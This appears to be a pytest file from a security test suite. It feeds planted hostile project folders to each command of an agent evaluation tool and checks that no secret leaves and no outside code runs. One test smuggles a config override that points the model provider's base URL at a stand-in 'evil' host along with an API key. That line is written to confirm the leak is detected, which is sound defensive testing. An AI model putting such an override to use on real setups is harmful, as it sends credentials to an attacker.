"""Each hostile folder given to each command."""

from pathlib import Path
from typing import get_args

import pytest

from tests.contract.hostile.attacks import RUNS_NOTHING, Attack, Folder
from tests.contract.hostile.conftest import Origins
from tests.contract.hostile.matrix import ATTACKS, check, typed
from tests.contract.hostile.place import Place
from tests.contract.hostile.planted import FILES, KEY, secrets_in

Cell = tuple[Attack, str]


def split_cells() -> tuple[list[Cell], list[Cell]]:
    """Return attacks with commands: the cells that show something new, and the long rest.

    Each attack keeps `eval`, each kind of folder every command once. Where the folder's own config
    is named, `eval` may do what a look may not, so that such an attack keeps `doctor` and a look.
    """
    new, rest = list[Cell](), list[Cell]()
    shown = set[tuple[str, str]]()
    for attack in ATTACKS:
        looks = [n for n in attack.commands if n in RUNS_NOTHING and n != "doctor"]
        own = {"eval", "doctor", *looks[:1]} if attack.own else {"eval"}
        if not own & attack.commands.keys():
            own = {next(iter(attack.commands))}
        for name in attack.commands:
            again = name not in own and (attack.folder, name) in shown
            (rest if again else new).append((attack, name))
            shown.add((attack.folder, name))
    return new, rest


NEW, REST = split_cells()
SLOW = {"verify file", "MCP server", "database", "prompts"}
"""Kinds of folder whose commands take a second or more; on verify files, one process each."""


@pytest.mark.parametrize(
    "cells", [NEW, pytest.param(REST, marks=pytest.mark.long)], ids=["new", "rest"]
)
@pytest.mark.parametrize(
    "folder",
    [
        pytest.param(folder, marks=pytest.mark.long if folder in SLOW else ())
        for folder in get_args(Folder)
    ],
)
def test_no_secret_leaves_and_nothing_of_a_stranger_runs(
    cells: list[Cell], folder: Folder, origins: Origins, tmp_path: Path
) -> None:
    missed = list[str]()
    mine = [(attack, name) for attack, name in cells if attack.folder == folder]
    for n, (attack, name) in enumerate(mine):
        outcome = typed(attack, name, tmp_path / str(n) / "p", *origins)
        if wrong := check(attack, name, outcome):
            missed.append(f"{attack.id}, {name}: {'; '.join(wrong)}\n{outcome.shown[-2000:]}")
    assert not missed, "\n".join(missed)


def test_every_folder_is_given_to_some_command() -> None:
    assert {attack.folder for attack, _ in NEW} == {*get_args(Folder)}
    assert len({attack.id for attack in ATTACKS}) == len(ATTACKS)


def test_what_is_looked_for_is_found(place: Place) -> None:
    outcome = place.type("eval", "--config", "own.yaml")
    assert outcome.code == 0
    assert KEY.encode() in place.good.whole
    assert not outcome.left
    assert not outcome.ran
    place.module("planted.py", "def solve(*_):\n    return 1\n")
    outcome = place.type("eval", "--config", "own.yaml", "--verify", "planted.py:solve")
    assert "planted.py" in outcome.ran
    evil = f"agent.model.model_provider={{base_url: '{place.evil.origin}/v1', api_key: '{KEY}'}}"
    outcome = place.type("eval", "--config", "own.yaml", "--set", evil, "--restart-step", "0")
    assert outcome.left == ["UTU_LLM_API_KEY"]


@pytest.mark.parametrize(
    "form",
    [str.upper, str.lower, lambda s: s.encode().hex(), lambda s: f"%22{s}", lambda s: s[::-1]],
)
def test_a_secret_is_found_in_other_notations(form: "type[str]") -> None:
    for name, (secret, _) in FILES.items():
        assert secrets_in(b"x" + form(secret).encode() + b"y") == [name]
    assert not secrets_in(b"nothing of that kind")
